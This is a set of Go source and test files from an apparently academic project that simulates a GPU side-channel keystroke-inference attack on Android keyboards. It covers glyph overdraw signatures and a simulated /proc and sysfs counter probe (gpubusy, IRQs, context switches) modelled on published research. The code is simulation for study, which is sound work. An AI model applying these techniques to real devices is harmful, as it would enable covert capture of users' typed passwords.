	'9': {cat(s(vs(0.75, 0.12, 0.85), hs(0.08, 0.30, 0.68), hs(0.50, 0.30, 0.72), hs(0.90, 0.28, 0.68), vs(0.25, 0.12, 0.50))), 3},

	// Symbols. Deliberately sparse shapes for the small punctuation marks,
	// which the paper reports as the least-overdraw and hardest keys.
	'.':  {s(dot(0.50, 0.88)), 0},
	',':  {s(dot(0.50, 0.86), vs(0.48, 0.90, 1.00)), 0},
	':':  {s(dot(0.50, 0.50), dot(0.50, 0.88)), 0},
	';':  {s(dot(0.50, 0.50), dot(0.50, 0.86), vs(0.48, 0.90, 1.00)), 0},
	'\'': {s(vs(0.50, 0.05, 0.28)), 0},
	'"':  {s(vs(0.40, 0.05, 0.28), vs(0.60, 0.05, 0.28)), 0},
	'!':  {cat(s(vs(0.50, 0.05, 0.65), dot(0.50, 0.88))), 0},
	'?':  {cat(s(hs(0.10, 0.30, 0.70), vs(0.72, 0.10, 0.40), vs(0.50, 0.45, 0.65), dot(0.50, 0.88))), 2},
	'-':  {s(hs(0.50, 0.25, 0.75)), 0},
	'_':  {s(hs(0.97, 0.15, 0.85)), 0},
	'+':  {s(hs(0.50, 0.22, 0.78), vs(0.50, 0.25, 0.78)), 0},
	'=':  {s(hs(0.40, 0.22, 0.78), hs(0.62, 0.22, 0.78)), 0},
	'*':  {cat(s(vs(0.50, 0.20, 0.62)), dg(0.32, 0.26, 0.68, 0.56), dg(0.32, 0.56, 0.68, 0.26)), 0},
	'/':  {cat(dg(0.25, 0.95, 0.75, 0.05)), 0},
	'\\': {cat(dg(0.25, 0.05, 0.75, 0.95)), 0},
	'(':  {cat(s(vs(0.48, 0.15, 0.85), hs(0.10, 0.48, 0.68), hs(0.90, 0.48, 0.68))), 2},
	')':  {cat(s(vs(0.52, 0.15, 0.85), hs(0.10, 0.32, 0.52), hs(0.90, 0.32, 0.52))), 2},
	'@':  {cat(s(vs(0.15, 0.25, 0.80), vs(0.85, 0.20, 0.70), hs(0.10, 0.25, 0.75), hs(0.92, 0.28, 0.80), vs(0.42, 0.38, 0.68), vs(0.64, 0.35, 0.70), hs(0.35, 0.42, 0.64), hs(0.68, 0.42, 0.70))), 5},
	'#':  {s(vs(0.38, 0.10, 0.90), vs(0.62, 0.10, 0.90), hs(0.38, 0.18, 0.82), hs(0.65, 0.18, 0.82)), 0},
	'$':  {cat(s(hs(0.15, 0.28, 0.75), hs(0.52, 0.28, 0.72), hs(0.88, 0.25, 0.72), vs(0.25, 0.15, 0.52), vs(0.75, 0.52, 0.88), vs(0.50, 0.02, 0.98))), 3},
	'&':  {cat(s(vs(0.30, 0.10, 0.55), hs(0.08, 0.32, 0.62), hs(0.55, 0.25, 0.60), vs(0.22, 0.55, 0.92), hs(0.92, 0.25, 0.70)), dg(0.45, 0.55, 0.82, 0.95)), 4},
	'%':  {cat(s(dot(0.28, 0.22), dot(0.72, 0.80)), dg(0.25, 0.92, 0.75, 0.08)), 2},
	'^':  {cat(dg(0.32, 0.35, 0.50, 0.10), dg(0.50, 0.10, 0.68, 0.35)), 0},
	'~':  {cat(s(hs(0.48, 0.20, 0.45), hs(0.55, 0.55, 0.80)), dg(0.42, 0.55, 0.58, 0.48)), 2},
	'`':  {cat(dg(0.42, 0.05, 0.58, 0.25)), 0},
	'<':  {cat(dg(0.70, 0.20, 0.30, 0.50), dg(0.30, 0.50, 0.70, 0.80)), 0},
	'>':  {cat(dg(0.30, 0.20, 0.70, 0.50), dg(0.70, 0.50, 0.30, 0.80)), 0},
	'|':  {s(vs(0.50, 0.02, 0.98)), 0},
	'[':  {s(vs(0.40, 0.05, 0.95), hs(0.08, 0.40, 0.65), hs(0.92, 0.40, 0.65)), 0},
	']':  {s(vs(0.60, 0.05, 0.95), hs(0.08, 0.35, 0.60), hs(0.92, 0.35, 0.60)), 0},
	'{':  {cat(s(vs(0.48, 0.10, 0.90), hs(0.08, 0.48, 0.68), hs(0.92, 0.48, 0.68), hs(0.50, 0.30, 0.48))), 2},
	'}':  {cat(s(vs(0.52, 0.10, 0.90), hs(0.08, 0.32, 0.52), hs(0.92, 0.32, 0.52), hs(0.50, 0.52, 0.70))), 2},

	// Space renders nothing but still occupies advance width.
	' ': {nil, 0},

	// Password echo bullet and UI key icons.
	'•': {s(dot(0.50, 0.60)), 1},                                                                                                                                                                       // •
	'⇧': {cat(dg(0.20, 0.50, 0.50, 0.10), dg(0.50, 0.10, 0.80, 0.50), s(vs(0.50, 0.50, 0.90))), 0},                                                                                                     // ⇧ shift
	'⌫': {cat(s(hs(0.30, 0.30, 0.85), hs(0.70, 0.30, 0.85), vs(0.85, 0.30, 0.70)), dg(0.12, 0.50, 0.30, 0.30), dg(0.12, 0.50, 0.30, 0.70), dg(0.42, 0.38, 0.66, 0.62), dg(0.42, 0.62, 0.66, 0.38)), 0}, // ⌫ backspace
	'⏎': {cat(s(vs(0.78, 0.15, 0.60), hs(0.60, 0.25, 0.78)), dg(0.15, 0.60, 0.32, 0.45), dg(0.15, 0.60, 0.32, 0.75)), 0},                                                                               // ⏎ enter
	'⌨': {s(dot(0.30, 0.50), dot(0.50, 0.50), dot(0.70, 0.50)), 0},                                                                                                                                     // layout-switch key icon
}

// Lookup returns the glyph for r and whether it is known.
func Lookup(r rune) (Glyph, bool) {
	g, ok := table[r]
	return g, ok
}

// MustLookup returns the glyph for r, falling back to '?' for unknown
// characters (matching font-renderer tofu behavior deterministically).
func MustLookup(r rune) Glyph {
	if g, ok := table[r]; ok {
		return g
	}
	return table['?']
}

// Runes returns every rune in the font, sorted, for enumeration in tests
// and offline collection.
func Runes() []rune {
	out := make([]rune, 0, len(table))
	for r := range table {
		out = append(out, r)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// Metrics summarizes a glyph rendered into a pixel box.
type Metrics struct {
	PixelArea int // total covered pixels (strokes may overlap; counted per stroke, as a GPU does)
	Triangles int // tessellated triangle count
	Vertices  int // tessellated vertex count
	Strokes   int // number of stroke quads
}

// TessFactor returns the number of triangles a curved segment tessellates
// into at the given pixel height. Real text renderers subdivide curves
// proportionally to on-screen size; 6 px per segment matches Skia's default
// tolerance closely enough for counter modeling.
func TessFactor(boxH int) int {
	f := boxH / 6
	if f < 2 {
		f = 2
	}
	return f
}

// MeasureIn computes the metrics of g rendered into box.
func (g Glyph) MeasureIn(box geom.Rect) Metrics {
	var m Metrics
	m.Strokes = len(g.Strokes)
	for _, s := range g.Strokes {
		r := s.Scale(box)
		m.PixelArea += r.Area()
	}
	tess := TessFactor(box.H())
	m.Triangles = 2*len(g.Strokes) + g.Curves*tess
	// Stroke quad = 4 vertices; tessellated curve fan = triangles + 2.
	m.Vertices = 4 * len(g.Strokes)
	if g.Curves > 0 {
		m.Vertices += g.Curves * (tess + 2)
	}
	return m
}

// StrokeRects returns the pixel rectangles of g's strokes inside box.
func (g Glyph) StrokeRects(box geom.Rect) []geom.Rect {
	out := make([]geom.Rect, 0, len(g.Strokes))
	for _, s := range g.Strokes {
		out = append(out, s.Scale(box))
	}
	return out
}

// InkBounds returns the bounding box of the glyph's ink in em coordinates,
// i.e. the tight atlas-quad extents a texture-atlas text renderer would
// use for this character. The zero glyph (space) returns an empty box.
func (g Glyph) InkBounds() geom.RectF {
	if len(g.Strokes) == 0 {
		return geom.RectF{}
	}
	b := g.Strokes[0]
	for _, s := range g.Strokes[1:] {
		if s.X0 < b.X0 {
			b.X0 = s.X0
		}
		if s.Y0 < b.Y0 {
			b.Y0 = s.Y0
		}
		if s.X1 > b.X1 {
			b.X1 = s.X1
		}
		if s.Y1 > b.Y1 {
			b.Y1 = s.Y1
		}
	}
	return b
}
