package glyph

import (
	"testing"
	"testing/quick"

	"gpuleak/internal/geom"
)

var popupBox = geom.XYWH(500, 1800, 96, 120)

func TestAllBasicRunesPresent(t *testing.T) {
	want := "abcdefghijklmnopqrstuvwxyz" +
		"ABCDEFGHIJKLMNOPQRSTUVWXYZ" +
		"1234567890" +
		`@#$&-+()/*"':;!?,. ` +
		"•⇧⌫⏎⌨"
	for _, r := range want {
		if _, ok := Lookup(r); !ok {
			t.Errorf("missing glyph for %q", r)
		}
	}
}

func TestStrokesWithinEmSquare(t *testing.T) {
	for _, r := range Runes() {
		g := MustLookup(r)
		for i, s := range g.Strokes {
			// Real fonts overshoot the em square by up to the stroke
			// half-width (e.g. round letters at the baseline); allow that.
			if s.X0 < -0.08 || s.Y0 < -0.08 || s.X1 > 1.08 || s.Y1 > 1.08 {
				t.Errorf("glyph %q stroke %d escapes em square: %+v", r, i, s)
			}
			if s.X1 < s.X0 || s.Y1 < s.Y0 {
				t.Errorf("glyph %q stroke %d inverted: %+v", r, i, s)
			}
		}
		if g.Curves < 0 {
			t.Errorf("glyph %q negative curves", r)
		}
	}
}

func TestMetricsDeterministic(t *testing.T) {
	for _, r := range Runes() {
		a := MustLookup(r).MeasureIn(popupBox)
		b := MustLookup(r).MeasureIn(popupBox)
		if a != b {
			t.Fatalf("glyph %q metrics not deterministic: %+v vs %+v", r, a, b)
		}
	}
}

// The side channel requires that distinct characters produce distinct
// coverage signatures. A handful of near-collisions among tiny punctuation
// is expected (the paper's hardest keys), but the bulk of the alphabet must
// separate.
func TestSignatureDistinctness(t *testing.T) {
	type sig struct{ area, tris int }
	seen := make(map[sig][]rune)
	alphabet := "abcdefghijklmnopqrstuvwxyz1234567890"
	for _, r := range alphabet {
		m := MustLookup(r).MeasureIn(popupBox)
		k := sig{m.PixelArea, m.Triangles}
		seen[k] = append(seen[k], r)
	}
	collisions := 0
	for k, rs := range seen {
		if len(rs) > 1 {
			collisions += len(rs) - 1
			t.Logf("collision at %+v: %q", k, string(rs))
		}
	}
	if collisions > 2 {
		t.Fatalf("too many exact signature collisions in a-z0-9: %d", collisions)
	}
}

func TestPunctuationSmallest(t *testing.T) {
	dotArea := MustLookup('.').MeasureIn(popupBox).PixelArea
	for _, r := range "abcdefghijklmnopqrstuvwxyz" {
		if a := MustLookup(r).MeasureIn(popupBox).PixelArea; a <= dotArea {
			t.Errorf("letter %q area %d not larger than '.' area %d", r, a, dotArea)
		}
	}
}

func TestWideVsThin(t *testing.T) {
	w := MustLookup('w').MeasureIn(popupBox)
	i := MustLookup('i').MeasureIn(popupBox)
	if w.PixelArea <= i.PixelArea {
		t.Fatalf("'w' area %d <= 'i' area %d", w.PixelArea, i.PixelArea)
	}
}

func TestSpaceRendersNothing(t *testing.T) {
	m := MustLookup(' ').MeasureIn(popupBox)
	if m.PixelArea != 0 || m.Triangles != 0 {
		t.Fatalf("space has coverage: %+v", m)
	}
}

func TestMustLookupFallback(t *testing.T) {
	q := MustLookup('?')
	fallback := MustLookup('☃') // snowman is not in the font
	if len(fallback.Strokes) != len(q.Strokes) || fallback.Curves != q.Curves {
		t.Fatal("unknown rune did not fall back to '?'")
	}
}

func TestTessFactorScalesWithSize(t *testing.T) {
	if TessFactor(12) >= TessFactor(120) {
		t.Fatal("tessellation must refine with size")
	}
	if TessFactor(1) < 2 {
		t.Fatal("tessellation floor violated")
	}
}

// Property: metrics grow with box size. Pixel rounding can cost a single
// row/column per stroke, so allow that much slack.
func TestMetricsScaleMonotone(t *testing.T) {
	f := func(scale uint8) bool {
		grow := int(scale)%120 + 8
		small := geom.XYWH(0, 0, 48, 60)
		big := geom.XYWH(0, 0, 48+grow, 60+grow)
		for _, r := range "awx8" {
			g := MustLookup(r)
			ms := g.MeasureIn(small)
			mb := g.MeasureIn(big)
			slack := len(g.Strokes) * (48 + grow)
			if mb.PixelArea+slack < ms.PixelArea || mb.Triangles < ms.Triangles {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestStrokeRectsMatchMetrics(t *testing.T) {
	g := MustLookup('h')
	rects := g.StrokeRects(popupBox)
	if len(rects) != len(g.Strokes) {
		t.Fatalf("StrokeRects len %d != strokes %d", len(rects), len(g.Strokes))
	}
	total := 0
	for _, r := range rects {
		total += r.Area()
	}
	if m := g.MeasureIn(popupBox); m.PixelArea != total {
		t.Fatalf("area mismatch: metrics %d vs rects %d", m.PixelArea, total)
	}
}

func TestRunesSortedAndComplete(t *testing.T) {
	rs := Runes()
	if len(rs) < 80 {
		t.Fatalf("font too small: %d runes", len(rs))
	}
	for i := 1; i < len(rs); i++ {
		if rs[i-1] >= rs[i] {
			t.Fatal("Runes not sorted")
		}
	}
}
