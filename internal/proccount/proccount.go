// Package proccount registers a fully simulated OS-level side channel in
// the EavesDroid style (arXiv:2303.03700): instead of ioctl-gated GPU
// performance counters, the attacker polls world-readable /proc and /sys
// statistics — GPU job IRQ counts, render softirq work, context
// switches, and the cumulative GPU busy time that KGSL exports through
// /sys/class/kgsl/kgsl-3d0/gpubusy — and the same delta/segment/
// classify pipeline runs over them unchanged.
//
// The channel is driven by the same victim render timeline as the KGSL
// channel: every submitted frame produces a burst of OS bookkeeping
// (a submission doorbell and a completion interrupt, softirq work and
// context switches roughly proportional to how long the frame drew, and
// the frame's draw duration accrued into the busy-time accumulator).
// What the OS counters cannot see is the per-counter overdraw structure:
// they observe event counts and draw durations, and popup redraws for
// whole keyboard rows share a draw duration, so per-key signatures
// collide into row-sized families and single-channel accuracy is
// markedly lower than on the 11-dimensional KGSL surface. The value of
// the channel is complementarity: it keeps observing while a fault plane
// starves the KGSL ioctl path, which is what the fusion classifier
// exploits.
//
// Determinism: the probe materializes the whole event timeline from the
// session's submitted frames at Open time; every read is a binary-search
// prefix sum, a pure function of (session, read time).
package proccount

import (
	"errors"
	"sort"

	"gpuleak/internal/channel"
	"gpuleak/internal/fault"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
	"gpuleak/internal/victim"
)

// Name is the registry key of this channel.
const Name = "proccount"

// Dims is how many leading feature dimensions the probe fills.
const Dims = 4

// Feature-dimension indices of the channel.
const (
	dimIRQ     = 0 // GPU job interrupts (submit doorbell + completion)
	dimSoftIRQ = 1 // render softirq work units
	dimCtxSw   = 2 // context switches of the render/compositor threads
	dimBusy    = 3 // cumulative GPU busy time, µs (sysfs gpubusy)
)

// Duration quantization steps, in µs, for the scheduler-derived
// dimensions: softirq batching and context-switch counts track frame
// draw time only coarsely. The busy-time accumulator is exact to the
// microsecond — that is what the kernel's gpubusy file exports — but it
// sums whole draw durations, blind to where the time went.
const (
	softirqQuantum = 180
	ctxswQuantum   = 450
)

// Errors of the simulated /proc reader, the channel's fault taxonomy.
// ErrAgain, ErrStale and ErrClosed are the transient family a loaded
// procfs exhibits (contended seq_file reads, rotated stat windows,
// transient fd invalidation); ErrInval is a malformed transient read.
var (
	ErrAgain  = errors.New("proccount: EAGAIN: /proc read contended")
	ErrInval  = errors.New("proccount: EINVAL: malformed /proc snapshot")
	ErrStale  = errors.New("proccount: ESTALE: stat window rotated (reopen)")
	ErrClosed = errors.New("proccount: EBADF: /proc handle closed")
)

type procChannel struct{}

func (procChannel) Name() string { return Name }

func (procChannel) Dims() int { return Dims }

func (procChannel) Open(sess *victim.Session) (channel.Probe, error) {
	return newProbe(sess), nil
}

func (procChannel) Taxonomy() fault.Taxonomy {
	return fault.Taxonomy{Busy: ErrAgain, Inval: ErrInval, NotReserved: ErrStale, Closed: ErrClosed}
}

// Interval matches the KGSL default: /proc stats refresh faster than the
// 8 ms polling cadence, and a shared tick grid is what keeps the two
// channels' delta streams alignable for fusion.
func (procChannel) Interval() sim.Time { return 8 * sim.Millisecond }

func init() { channel.Register(procChannel{}) }

// event is one instantaneous increment of the cumulative counters.
type event struct {
	at  sim.Time
	inc [Dims]uint64
}

// Probe is an open handle on the simulated /proc counters of one victim
// session. It is owned by a single sampling goroutine, like kgsl.File.
type Probe struct {
	times []sim.Time
	// cum[i] is the counter state after events[0..i-1]; cum[0] is the
	// boot-time base, mirroring real counters that count since boot.
	cum [][Dims]uint64
}

// newProbe materializes the event timeline from the session's frames.
func newProbe(sess *victim.Session) *Probe {
	var evs []event
	for _, f := range sess.GPU.Frames() {
		q := uint64(f.Duration())
		evs = append(evs,
			event{at: f.Start, inc: [Dims]uint64{dimIRQ: 1, dimCtxSw: 1}},
			event{at: f.End, inc: [Dims]uint64{
				dimIRQ:     1,
				dimSoftIRQ: 1 + q/softirqQuantum,
				dimCtxSw:   1 + q/ctxswQuantum,
				dimBusy:    q,
			}},
		)
	}
	sort.SliceStable(evs, func(i, j int) bool { return evs[i].at < evs[j].at })

	p := &Probe{}
	var base [Dims]uint64
	for i := range base {
		// Deterministic boot offset, as on a device that has been running.
		base[i] = uint64(2e6) + uint64(i*211)
	}
	p.cum = append(p.cum, base)
	for _, ev := range evs {
		// Merge coincident events into one step so reads never split them.
		if n := len(p.times); n > 0 && p.times[n-1] == ev.at {
			last := &p.cum[len(p.cum)-1]
			for i := range last {
				last[i] += ev.inc[i]
			}
			continue
		}
		p.times = append(p.times, ev.at)
		next := p.cum[len(p.cum)-1]
		for i := range next {
			next[i] += ev.inc[i]
		}
		p.cum = append(p.cum, next)
	}
	return p
}

// ReserveSelected is a no-op: /proc files need no reservation protocol.
// It exists so the probe satisfies channel.Probe, and so a fault plane's
// revocation (ErrStale) heals through the sampler's re-reserve path,
// which models reopening the rotated stat file.
func (p *Probe) ReserveSelected(t sim.Time) error { return nil }

// ReadSelected returns the cumulative counters at t: the prefix sum of
// all events at or before t, leading Dims entries meaningful, the rest
// zero. Counts are monotonically non-decreasing in t.
func (p *Probe) ReadSelected(t sim.Time) (trace.Raw, error) {
	idx := sort.Search(len(p.times), func(i int) bool { return p.times[i] > t })
	var out trace.Raw
	copy(out[:Dims], p.cum[idx][:])
	return out, nil
}
