package parallel

import (
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
)

func TestForEachRunsEveryIndexOnce(t *testing.T) {
	for _, workers := range []int{1, 2, 4, 8, 0} {
		const n = 100
		counts := make([]int32, n)
		err := ForEach(workers, n, func(i int) error {
			atomic.AddInt32(&counts[i], 1)
			return nil
		})
		if err != nil {
			t.Fatalf("workers=%d: %v", workers, err)
		}
		for i, c := range counts {
			if c != 1 {
				t.Fatalf("workers=%d: index %d ran %d times", workers, i, c)
			}
		}
	}
}

func TestForEachZeroTasks(t *testing.T) {
	if err := ForEach(4, 0, func(int) error { return errors.New("must not run") }); err != nil {
		t.Fatal(err)
	}
}

func TestForEachLowestIndexedError(t *testing.T) {
	// Several tasks fail; regardless of scheduling the reported error must
	// be the lowest-indexed one, and every task must still have run.
	for _, workers := range []int{1, 3, 8} {
		const n = 64
		var ran atomic.Int32
		err := ForEach(workers, n, func(i int) error {
			ran.Add(1)
			if i == 7 || i == 31 || i == 63 {
				return fmt.Errorf("task %d failed", i)
			}
			return nil
		})
		if err == nil || err.Error() != "task 7 failed" {
			t.Fatalf("workers=%d: got %v, want error of task 7", workers, err)
		}
		if ran.Load() != n {
			t.Fatalf("workers=%d: only %d/%d tasks ran after failure", workers, ran.Load(), n)
		}
	}
}

func TestForEachBoundsConcurrency(t *testing.T) {
	const workers = 3
	var cur, peak atomic.Int32
	var mu sync.Mutex
	err := ForEach(workers, 50, func(i int) error {
		c := cur.Add(1)
		mu.Lock()
		if c > peak.Load() {
			peak.Store(c)
		}
		mu.Unlock()
		cur.Add(-1)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if p := peak.Load(); p > workers {
		t.Fatalf("observed %d concurrent tasks, worker cap is %d", p, workers)
	}
}

func TestMapOrdersResultsByIndex(t *testing.T) {
	for _, workers := range []int{1, 4, 0} {
		out, err := Map(workers, 40, func(i int) (int, error) { return i * i, nil })
		if err != nil {
			t.Fatal(err)
		}
		for i, v := range out {
			if v != i*i {
				t.Fatalf("workers=%d: slot %d holds %d, want %d", workers, i, v, i*i)
			}
		}
	}
}

func TestMapError(t *testing.T) {
	_, err := Map(4, 10, func(i int) (int, error) {
		if i%2 == 1 {
			return 0, fmt.Errorf("odd %d", i)
		}
		return i, nil
	})
	if err == nil || err.Error() != "odd 1" {
		t.Fatalf("got %v, want error of task 1", err)
	}
}

func TestWorkersResolution(t *testing.T) {
	if Workers(5) != 5 {
		t.Fatalf("Workers(5) = %d", Workers(5))
	}
	if Workers(0) < 1 {
		t.Fatalf("Workers(0) = %d, want >= 1", Workers(0))
	}
	if Workers(-3) != Workers(0) {
		t.Fatalf("negative and zero should both mean per-CPU")
	}
}
