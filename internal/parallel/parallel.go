// Package parallel is the repo's worker-pool execution engine. The
// offline phase, the experiment layer and the benchmark harness all fan
// embarrassingly parallel work — per-(key, repeat) trace collection,
// independent device/noise/volunteer configurations, whole experiments —
// through the same primitives.
//
// Determinism is the design constraint: every task is addressed by its
// index, writes only its own result slot, and derives any randomness from
// a seed that is a pure function of that index (sim.TaskSeed). Scheduling
// order therefore never leaks into results, and a run with 8 workers is
// byte-identical to a run with 1.
package parallel

import (
	"context"
	"runtime"
	"sync"
	"sync/atomic"

	"gpuleak/internal/obs"
)

// poolMetrics is the pool's optional telemetry sink. Commands opt in once
// at startup with ObserveWith; the hot path loads an atomic pointer, so
// the disabled cost is one predictable branch per batch. Every recorded
// quantity is an order-independent aggregate (sums, per-worker tallies),
// never an event stream — scheduling is allowed to show up here, which is
// exactly why pool utilization lives in the metrics registry and not in
// the deterministic event stream.
var poolMetrics atomic.Pointer[obs.Metrics]

// Metric-name vocabulary of the pool (registered constants, per the
// gpuvet obsevent call-site rule).
const (
	mBatches      = "parallel.batches"
	mTasks        = "parallel.tasks"
	mBatchWorkers = "parallel.batch_workers"
	mWorkerTasks  = "parallel.worker_tasks"
	mQueueDepth   = "parallel.queue_depth"
)

// ObserveWith routes pool statistics (batches, tasks, queue depth,
// per-worker utilization) into a metrics registry; nil disables. Set it
// before fanning out work.
func ObserveWith(m *obs.Metrics) { poolMetrics.Store(m) }

// Workers resolves a worker-count knob: n > 0 selects exactly n workers,
// n <= 0 selects one worker per available CPU.
func Workers(n int) int {
	if n > 0 {
		return n
	}
	return runtime.GOMAXPROCS(0)
}

// ForEach runs fn(i) for every i in [0, n) on at most workers goroutines
// (0 = one per CPU) and blocks until all tasks finish. Tasks are handed
// out in index order but may complete in any order; fn must confine its
// writes to per-index state. All tasks run even when one fails, and the
// error of the lowest-indexed failing task is returned, so the outcome —
// results and error alike — is independent of scheduling.
func ForEach(workers, n int, fn func(i int) error) error {
	return ForEachCtx(context.Background(), workers, n, fn)
}

// ForEachCtx is ForEach with cooperative cancellation: once ctx is done,
// no further tasks are handed out (tasks already running finish). Errors
// of completed tasks keep their index-order precedence; when the batch was
// cut short and no task failed, the context's error is returned. Note
// that WHICH tasks ran after a cancellation depends on timing — the
// determinism contract only covers runs that complete.
func ForEachCtx(ctx context.Context, workers, n int, fn func(i int) error) error {
	if n <= 0 {
		return ctx.Err()
	}
	workers = Workers(workers)
	if workers > n {
		workers = n
	}
	m := poolMetrics.Load()
	if m != nil {
		m.Add(mBatches, 1)
		m.Add(mTasks, int64(n))
		m.Observe(mBatchWorkers, float64(workers))
	}
	errs := make([]error, n)
	issued := n
	if workers == 1 {
		ran := 0
		for i := 0; i < n; i++ {
			if ctx.Err() != nil {
				issued = i
				break
			}
			errs[i] = fn(i)
			ran++
		}
		if m != nil {
			m.Observe(mWorkerTasks, float64(ran))
		}
	} else {
		var next atomic.Int64
		var wg sync.WaitGroup
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				ran := 0
				for ctx.Err() == nil {
					i := int(next.Add(1)) - 1
					if i >= n {
						break
					}
					if m != nil {
						// Queue depth at grab time: tasks not yet handed out.
						m.Observe(mQueueDepth, float64(n-i-1))
					}
					errs[i] = fn(i)
					ran++
				}
				if m != nil {
					// Per-worker utilization: how evenly the batch spread.
					m.Observe(mWorkerTasks, float64(ran))
				}
			}()
		}
		wg.Wait()
		// Workers stop grabbing once ctx is done, so a frozen counter below
		// n means some tasks were never issued.
		if int(next.Load()) < n {
			issued = int(next.Load())
		}
	}
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	if issued < n {
		return ctx.Err()
	}
	return nil
}

// Map runs fn(i) for every i in [0, n) on at most workers goroutines and
// returns the results in index order. On failure it returns the error of
// the lowest-indexed failing task (see ForEach).
func Map[T any](workers, n int, fn func(i int) (T, error)) ([]T, error) {
	return MapCtx(context.Background(), workers, n, fn)
}

// MapCtx is Map with cooperative cancellation (see ForEachCtx).
func MapCtx[T any](ctx context.Context, workers, n int, fn func(i int) (T, error)) ([]T, error) {
	out := make([]T, n)
	err := ForEachCtx(ctx, workers, n, func(i int) error {
		v, err := fn(i)
		if err != nil {
			return err
		}
		out[i] = v
		return nil
	})
	if err != nil {
		return nil, err
	}
	return out, nil
}
