package sim

import "container/heap"

// Event is a timestamped occurrence in the simulation. Payload semantics
// are owned by the producing subsystem.
type Event struct {
	At      Time
	Kind    string
	Payload any
}

// Queue is a min-heap of events ordered by time; ties are broken by
// insertion order so the simulation stays deterministic.
type Queue struct {
	h   eventHeap
	seq int
}

type queued struct {
	Event
	seq int
}

type eventHeap []queued

func (h eventHeap) Len() int { return len(h) }
func (h eventHeap) Less(i, j int) bool {
	if h[i].At != h[j].At {
		return h[i].At < h[j].At
	}
	return h[i].seq < h[j].seq
}
func (h eventHeap) Swap(i, j int) { h[i], h[j] = h[j], h[i] }
func (h *eventHeap) Push(x any)   { *h = append(*h, x.(queued)) }
func (h *eventHeap) Pop() any {
	old := *h
	n := len(old)
	x := old[n-1]
	*h = old[:n-1]
	return x
}

// Len reports the number of queued events.
func (q *Queue) Len() int { return q.h.Len() }

// Push enqueues an event.
func (q *Queue) Push(e Event) {
	q.seq++
	heap.Push(&q.h, queued{Event: e, seq: q.seq})
}

// Pop removes and returns the earliest event. It panics on an empty queue.
func (q *Queue) Pop() Event {
	return heap.Pop(&q.h).(queued).Event
}

// Peek returns the earliest event without removing it.
func (q *Queue) Peek() (Event, bool) {
	if q.h.Len() == 0 {
		return Event{}, false
	}
	return q.h[0].Event, true
}

// Drain pops every event in time order.
func (q *Queue) Drain() []Event {
	out := make([]Event, 0, q.Len())
	for q.Len() > 0 {
		out = append(out, q.Pop())
	}
	return out
}
