package sim

import (
	"math"
	"testing"
	"testing/quick"
	"time"
)

func TestTimeUnits(t *testing.T) {
	if Second != 1_000_000 {
		t.Fatalf("Second = %d", Second)
	}
	if Millis(2.5) != 2500 {
		t.Fatalf("Millis(2.5) = %d", Millis(2.5))
	}
	if Seconds(0.25) != 250_000 {
		t.Fatalf("Seconds(0.25) = %d", Seconds(0.25))
	}
	if got := FromDuration(3 * time.Millisecond); got != 3000 {
		t.Fatalf("FromDuration = %d", got)
	}
	if (3 * Millisecond).Duration() != 3*time.Millisecond {
		t.Fatal("Duration roundtrip failed")
	}
}

func TestTimeString(t *testing.T) {
	cases := []struct {
		in   Time
		want string
	}{
		{500, "500us"},
		{2500, "2.5ms"},
		{3 * Second, "3s"},
	}
	for _, c := range cases {
		if got := c.in.String(); got != c.want {
			t.Errorf("%d.String() = %q, want %q", int64(c.in), got, c.want)
		}
	}
}

func TestRandDeterminism(t *testing.T) {
	a := NewRand(42)
	b := NewRand(42)
	for i := 0; i < 100; i++ {
		if a.Uint64() != b.Uint64() {
			t.Fatal("same seed diverged")
		}
	}
	c := NewRand(43)
	same := 0
	a = NewRand(42)
	for i := 0; i < 100; i++ {
		if a.Uint64() == c.Uint64() {
			same++
		}
	}
	if same > 2 {
		t.Fatalf("different seeds too correlated: %d/100 equal", same)
	}
}

func TestRandFloat64Range(t *testing.T) {
	r := NewRand(1)
	for i := 0; i < 10000; i++ {
		v := r.Float64()
		if v < 0 || v >= 1 {
			t.Fatalf("Float64 out of range: %v", v)
		}
	}
}

func TestRandIntn(t *testing.T) {
	r := NewRand(7)
	seen := make([]bool, 10)
	for i := 0; i < 1000; i++ {
		v := r.Intn(10)
		if v < 0 || v >= 10 {
			t.Fatalf("Intn out of range: %d", v)
		}
		seen[v] = true
	}
	for i, s := range seen {
		if !s {
			t.Fatalf("Intn never produced %d", i)
		}
	}
}

func TestRandNormMoments(t *testing.T) {
	r := NewRand(11)
	const n = 50000
	var sum, sumsq float64
	for i := 0; i < n; i++ {
		v := r.Norm(5, 2)
		sum += v
		sumsq += v * v
	}
	mean := sum / n
	std := math.Sqrt(sumsq/n - mean*mean)
	if math.Abs(mean-5) > 0.05 {
		t.Fatalf("mean = %v, want ~5", mean)
	}
	if math.Abs(std-2) > 0.05 {
		t.Fatalf("std = %v, want ~2", std)
	}
}

func TestRandExpMean(t *testing.T) {
	r := NewRand(13)
	const n = 50000
	var sum float64
	for i := 0; i < n; i++ {
		sum += r.Exp(3)
	}
	if m := sum / n; math.Abs(m-3) > 0.1 {
		t.Fatalf("Exp mean = %v, want ~3", m)
	}
}

func TestRandBool(t *testing.T) {
	r := NewRand(17)
	hits := 0
	for i := 0; i < 10000; i++ {
		if r.Bool(0.3) {
			hits++
		}
	}
	if hits < 2800 || hits > 3200 {
		t.Fatalf("Bool(0.3) hit rate = %d/10000", hits)
	}
}

func TestRandPermIsPermutation(t *testing.T) {
	f := func(seed int64) bool {
		r := NewRand(seed)
		p := r.Perm(20)
		seen := make(map[int]bool)
		for _, v := range p {
			if v < 0 || v >= 20 || seen[v] {
				return false
			}
			seen[v] = true
		}
		return len(seen) == 20
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}

func TestRandSplitIndependence(t *testing.T) {
	r := NewRand(5)
	child := r.Split()
	// Drawing from the child must not change the parent's future stream
	// relative to a parent that also split but never used the child.
	r2 := NewRand(5)
	_ = r2.Split()
	for i := 0; i < 10; i++ {
		child.Uint64()
	}
	for i := 0; i < 10; i++ {
		if r.Uint64() != r2.Uint64() {
			t.Fatal("child draws perturbed parent stream")
		}
	}
}

func TestPick(t *testing.T) {
	r := NewRand(3)
